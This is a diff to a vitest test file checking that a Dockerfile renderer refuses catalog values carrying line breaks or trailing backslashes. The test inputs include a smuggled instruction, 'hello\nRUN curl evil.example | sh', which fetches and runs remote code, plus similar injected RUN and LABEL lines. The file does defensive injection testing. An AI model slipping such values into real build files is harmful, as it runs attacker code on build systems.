@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { EXAMPLE, load, yaml } from '../../test/helpers.js';
+import type { Catalog } from '../catalog/model.js';
 import { formatDiagnostic } from '../diagnostics.js';
 import { InvalidInputError } from '../errors.js';
 import { type RenderInputs, renderNodes } from './render.js';
@@ -108,23 +109,53 @@ describe('renderNodes', () => {
 });
 
 describe('catalog values cannot inject Dockerfile instructions', () => {
+  // loadCatalog refuses these values (validation.test.ts); rendering refuses them again, since the
+  // catalog it is given may come from elsewhere (a snapshot, an embedder).
+  const unsafeCatalog = (change: (catalog: Catalog) => Catalog) => {
+    const loaded = load(SIMPLE);
+    return { ...loaded, catalog: change(loaded.catalog) };
+  };
+  const renderErrorsOf = (loaded: ReturnType<typeof unsafeCatalog>) => {
+    try {
+      renderNodes(loaded, loaded.graph.order, inputs(TEMPLATES));
+    } catch (error) {
+      if (error instanceof InvalidInputError) return error.diagnostics.map(formatDiagnostic);
+      throw error;
+    }
+    throw new Error('expected rendering to fail');
+  };
+  const withGreeting = (greeting: string) =>
+    unsafeCatalog((catalog) => ({
+      ...catalog,
+      images: catalog.images.map((image) => ({
+        ...image,
+        versions: image.versions.map((v) => ({
+          ...v,
+          vars: { ...v.vars, ...(image.name === 'app' ? { greeting } : {}) },
+        })),
+      })),
+    }));
+
   it('rejects a newline in a variable, with its position in the catalog', () => {
-    const text = SIMPLE.replace('greeting: hello', 'greeting: "hello\\nRUN curl evil.example | sh"');
-    expect(renderErrors(text, TEMPLATES)).toEqual([
+    expect(renderErrorsOf(withGreeting('hello\nRUN curl evil.example | sh'))).toEqual([
       'catalog.yaml:10:38: images.app.versions.1.0.0.greeting: value contains a line break, which would start a new Dockerfile instruction (values end up in Dockerfiles: keep them on one line)',
     ]);
   });
 
   it('rejects a trailing backslash, which would continue into the next line', () => {
-    const text = SIMPLE.replace('greeting: hello', 'greeting: "hello\\\\"');
-    expect(renderErrors(text, TEMPLATES)[0]).toMatch(/greeting: value ends with a backslash/);
+    expect(renderErrorsOf(withGreeting('hello\\'))[0]).toMatch(/greeting: value ends with a backslash/);
   });
 
-  it('rejects line breaks in label settings and variable keys too', () => {
-    const text = SIMPLE.replace('vendor: Acme', 'vendor: "Acme\\rLABEL x=y"');
-    expect(renderErrors(text, TEMPLATES)[0]).toMatch(
-      /^catalog\.yaml:\d+:\d+: labels\.vendor: value contains a line break/,
-    );
+  it('rejects line breaks in label settings and the registry too', () => {
+    const loaded = unsafeCatalog((catalog) => ({
+      ...catalog,
+      registry: 'r.example/acme\nRUN x',
+      labels: { ...catalog.labels, vendor: 'Acme\rLABEL x=y' },
+    }));
+    expect(renderErrorsOf(loaded)).toEqual([
+      expect.stringMatching(/^catalog\.yaml:1:11: registry: value contains a line break/),
+      expect.stringMatching(/^catalog\.yaml:\d+:\d+: labels\.vendor: value contains a line break/),
+    ]);
   });
 
   it('escapes quotes, backslashes and $ in label values, so they stay literal', () => {
